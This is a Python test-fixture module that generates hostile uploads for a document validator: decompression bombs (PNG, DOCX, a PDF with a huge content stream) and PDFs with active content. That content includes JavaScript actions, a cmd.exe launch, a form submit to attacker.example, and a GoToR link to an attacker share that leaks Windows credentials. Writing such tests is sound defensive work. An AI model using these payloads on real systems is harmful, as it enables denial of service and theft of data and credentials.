"""Hostile files, made by code (issue #9): packages and images that expand far beyond their size, and PDFs
that carry scripts and other active content wherever PDF allows it. scripts/bench-uploads uploads some.

The PDFs are written object by object like samples.pdf_bytes, so each case holds exactly what it claims:
object 1 is the catalogue, 2 the page tree, 3 the page (showing "Hostile"), 4 its content, 5 its font, and
the case's own objects are numbered from 6 on, in the order given.
"""

import io
import os
import struct
import zipfile
import zlib

from PIL import Image

from sample_data.pdf import pdf_file
from tests.documents import samples

# --- Bombs --------------------------------------------------------------------------------------------------


def png_bomb(width=12000, height=12000):
    """A valid greyscale PNG, every pixel black: about 140 KB that decode to ``width`` × ``height`` bytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    rows = bytes(width + 1) * 64  # each row: filter type 0, then its pixels
    parts = [compressor.compress(rows) for _ in range(height // 64)]
    parts.append(compressor.compress(bytes(width + 1) * (height % 64)) + compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")
    )


PARAGRAPH = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"


def expanding_docx(expanded=300 * 1024 * 1024):
    """A Word document whose word/document.xml (one-letter paragraphs) expands to ``expanded`` bytes.

    300 MB compress to about 300 KB: the file the probe found, which took a worker from 150 MB to 1 GB.
    """
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as model,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package,
    ):
        for info in model.infolist():
            if info.filename != "word/document.xml":
                package.writestr(info, model.read(info))
        with package.open("word/document.xml", "w") as part:
            head = (
                b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            )
            part.write(head)
            block = PARAGRAPH * (1024 * 1024 // len(PARAGRAPH))
            written = len(head)
            while written < expanded:
                part.write(block)
                written += len(block)
            part.write(b"</w:body></w:document>")
    return buffer.getvalue()


def lying_docx():
    """A Word document whose word/document.xml declares 1,000 bytes in the directory and holds 20 MB."""
    content = bytearray(expanding_docx(20 * 1024 * 1024))
    name = b"word/document.xml"
    entry = content.index(b"PK\x01\x02")  # the central directory's entries; the name starts at byte 46
    while content[entry + 46 : entry + 46 + len(name)] != name:
        entry = content.index(b"PK\x01\x02", entry + 4)
    content[entry + 24 : entry + 28] = struct.pack("<L", 1000)  # its uncompressed size
    return bytes(content)


def many_entries_zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        for number in range(entries):
            package.writestr(f"p/{number}", "")
    return buffer.getvalue()


# --- PDFs ---------------------------------------------------------------------------------------------------

JAVASCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hostile'\\);) >>"
LINK_RECT = b"/Rect [72 600 300 640]"


def pdf(catalog=b"", page=b"", objects=(), pages=b"/Kids [3 0 R] /Count 1", mediabox=b"0 0 612 792"):
    """A one-page PDF: ``catalog``, ``page`` and ``pages`` added to those dictionaries, ``objects`` from 6."""
    stream = b"BT /F1 18 Tf 72 720 Td (Hostile) Tj ET"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [" + mediabox + b"] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    return write_pdf(bodies)


def write_pdf(bodies, root=1):
    return pdf_file(bodies, root=root, version=b"1.7")


def link(action):
    return b"<< /Type /Annot /Subtype /Link " + LINK_RECT + b" /Border [0 0 0] /A " + action + b" >>"


def embedded_file():
    data = b"MZ not really a program"
    return b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


# Each refused case: (name, PDF bytes, what the refusal says was found).
SCRIPTS = "scripts (JavaScript)"
REFUSED_PDFS = [
    ("open-action", pdf(b"/OpenAction 6 0 R", objects=[JAVASCRIPT]), SCRIPTS),
    ("catalogue-aa", pdf(b"/AA << /WC 6 0 R >>", objects=[JAVASCRIPT]), SCRIPTS),
    ("page-aa", pdf(page=b"/AA << /O 6 0 R >>", objects=[JAVASCRIPT]), SCRIPTS),
    (
        "next-chain",  # /OpenAction → /GoTo → /Named → (an array of one) JavaScript
        pdf(
            b"/OpenAction 6 0 R",
            objects=[
                b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
                b"<< /S /Named /N /FirstPage /Next [8 0 R] >>",
                JAVASCRIPT,
            ],
        ),
        SCRIPTS,
    ),
    (
        "next-loop",  # a chain that leads back to its start, with the script in the loop
        pdf(
            b"/OpenAction 6 0 R",
            objects=[
                b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
                b"<< /S /Named /N /FirstPage /Next [6 0 R 8 0 R] >>",
                b"<< /S /JavaScript /JS (app.beep\\(0\\);) /Next 6 0 R >>",
            ],
        ),
        SCRIPTS,
    ),
    ("link", pdf(page=b"/Annots [6 0 R]", objects=[link(b"7 0 R"), JAVASCRIPT]), SCRIPTS),
    (
        "link-aa",
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /AA << /E 7 0 R >> >>", JAVASCRIPT],
        ),
        SCRIPTS,
    ),
    (
        "widget-aa",  # a text field that runs a script on each key typed
        pdf(
            b"/AcroForm << /Fields [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            objects=[
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nombre) " + LINK_RECT + b" /P 3 0 R "
                b"/AA << /K 7 0 R >> >>",
                JAVASCRIPT,
            ],
        ),
        SCRIPTS,
    ),
    (
        "field-aa",  # the script on the field, its widget a kid
        pdf(
            b"/AcroForm << /Fields [6 0 R] >>",
            page=b"/Annots [7 0 R]",
            objects=[
                b"<< /FT /Tx /T (total) /Kids [7 0 R] /AA << /C 8 0 R >> >>",
                b"<< /Type /Annot /Subtype /Widget /Parent 6 0 R " + LINK_RECT + b" /P 3 0 R >>",
                JAVASCRIPT,
            ],
        ),
        SCRIPTS,
    ),
    (
        "outline",  # a bookmark that runs a script
        pdf(
            b"/Outlines 6 0 R",
            objects=[
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Inicio) /Parent 6 0 R /A 8 0 R >>",
                JAVASCRIPT,
            ],
        ),
        SCRIPTS,
    ),
    (
        "javascript-name-tree",
        pdf(b"/Names << /JavaScript 6 0 R >>", objects=[b"<< /Names [(init) 7 0 R] >>", JAVASCRIPT]),
        SCRIPTS,
    ),
    (
        "escaped-name",  # /J#61vaScript is /JavaScript: names are compared, not bytes
        pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\);) >>"),
        SCRIPTS,
    ),
    (
        "script-in-a-stream",
        pdf(
            b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
            objects=[b"<< /Length 12 >>\nstream\napp.alert();\nendstream"],
        ),
        SCRIPTS,
    ),
    ("rendition", pdf(b"/OpenAction << /S /Rendition /OP 4 /JS (app.alert\\(1\\);) >>"), SCRIPTS),
    (
        "javascript-uri",
        pdf(page=b"/Annots [6 0 R]", objects=[link(b"<< /S /URI /URI (JavaScript:app.alert\\(1\\)) >>")]),
        SCRIPTS,
    ),
    (
        "launch",
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[link(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>")],
        ),
        "starts a program",
    ),
    (
        "submit-form",
        pdf(
            b"/AcroForm << /Fields [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            objects=[
                b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (enviar) " + LINK_RECT + b" "
                b"/A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>"
            ],
        ),
        "sends what is typed",
    ),
    ("import-data", pdf(b"/OpenAction << /S /ImportData /F (datos.fdf) >>"), "loads data from another file"),
    (
        "go-to-remote",  # opening a PDF on a network share hands the reader's Windows credentials to it
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\anexo.pdf) /D [0 /Fit] >>")],
        ),
        "opens another file",
    ),
    (
        "go-to-embedded",
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[link(b"<< /S /GoToE /NewWindow true /T << /R /C /N (anexo) >> >>")],
        ),
        "opens another file",
    ),
    (
        "file-uri",
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")],
        ),
        "opens another file",
    ),
    (
        "embedded-files",
        pdf(
            b"/Names << /EmbeddedFiles 6 0 R >>",
            objects=[
                b"<< /Names [(factura.exe) 7 0 R] >>",
                b"<< /Type /Filespec /F (factura.exe) /EF << /F 8 0 R >> >>",
                embedded_file(),
            ],
        ),
        "attached files",
    ),
    (
        "file-attachment",
        pdf(
            page=b"/Annots [6 0 R]",
            objects=[
                b"<< /Type /Annot /Subtype /FileAttachment " + LINK_RECT + b" /FS 7 0 R /Name /PushPin >>",
                b"<< /Type /Filespec /F (anexo.exe) /EF << /F 8 0 R >> >>",
                embedded_file(),
            ],
        ),
        "attached files",
    ),
    (
        "rich-media",
        pdf(page=b"/Annots [6 0 R]", objects=[b"<< /Type /Annot /Subtype /RichMedia " + LINK_RECT + b" >>"]),
        "multimedia or 3D player",
    ),
    (
        "xfa",
        pdf(
            b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            objects=[b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"],
        ),
        "XFA form",
    ),
    (
        "page-tree-loop",  # the page tree contains itself; the script is on the page
        pdf(page=b"/AA << /O 6 0 R >>", objects=[JAVASCRIPT], pages=b"/Kids [3 0 R 2 0 R] /Count 2"),
        SCRIPTS,
    ),
]

# Links and actions an ordinary report has: all accepted.
ACCEPTED_PDF = pdf(
    b"/OpenAction [3 0 R /Fit] /Outlines 9 0 R /Names << /Dests 11 0 R >> /AcroForm << /Fields [12 0 R] >>",
    page=b"/Annots [6 0 R 7 0 R 8 0 R 12 0 R 13 0 R]",
    objects=[
        link(b"<< /S /URI /URI (https://www.voluntaryprinciples.org/) >>"),  # 6
        link(b"<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>"),  # 7
        b"<< /Type /Annot /Subtype /Link " + LINK_RECT + b" /Dest (inicio) >>",  # 8
        b"<< /Type /Outlines /First 10 0 R /Last 10 0 R /Count 1 >>",  # 9
        b"<< /Title (Inicio) /Parent 9 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next 14 0 R >> >>",  # 10
        b"<< /Names [(inicio) [3 0 R /Fit]] >>",  # 11
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nombre) " + LINK_RECT + b" /P 3 0 R >>",  # 12
        link(b"<< /S /URI /URI (mailto:secretaria@icwg.example.org) >>"),  # 13
        b"<< /S /Named /N /FirstPage /Next 14 0 R >>",  # 14: a chain that loops on itself, harmlessly
    ],
)

PAGE_TREE_LOOP = pdf(pages=b"/Kids [3 0 R 2 0 R] /Count 2")


def drawing_bomb(expanded=70 * 1024 * 1024, pages=1):
    """A PDF of about 170 KB whose pages all draw one content stream of ``expanded`` bytes of lines.

    Drawing its first page took PDFium 1.2 GB and 16 s.
    """
    line = b"10 10 m 20 20 l S\n"
    compressor = zlib.compressobj(9)
    block = line * (1024 * 1024 // len(line))
    data = b"".join(compressor.compress(block) for _ in range(expanded // len(block))) + compressor.flush()
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
            *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"] * pages,
        ]
    )


def huge_page_pdf(points):
    """A PDF whose only page declares ``points`` × ``points`` (200 inches is 14,400 points)."""
    return pdf(mediabox=b"0 0 %d %d" % (points, points))


def large_pdf(size=50 * 1000 * 1000):
    """An ordinary PDF of at most ``size`` bytes: pages of text, each with a photograph (a JPEG of noise)."""
    photo = io.BytesIO()
    side = 700
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(photo, "JPEG", quality=60)
    jpeg = photo.getvalue()
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    kids = []
    for number in range((size - 64 * 1024) // (len(jpeg) + 600)):
        text = (
            b"BT /F1 14 Tf 72 760 Td (Informe anual, pagina %d) Tj ET q 468 0 0 468 72 200 cm /Im1 Do Q"
            % (number + 1)
        )
        image = len(bodies) + 1
        bodies.append(
            b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
            b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n"
            % (side, side, len(jpeg))
            + jpeg
            + b"\nendstream"
        )
        bodies.append(b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream")
        bodies.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> /XObject << /Im1 %d 0 R >> >> >>" % (image + 1, image)
        )
        kids.append(b"%d 0 R" % len(bodies))
    bodies[1] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % len(kids)
    content = write_pdf(bodies)
    assert len(content) <= size, (len(content), size)
    return content
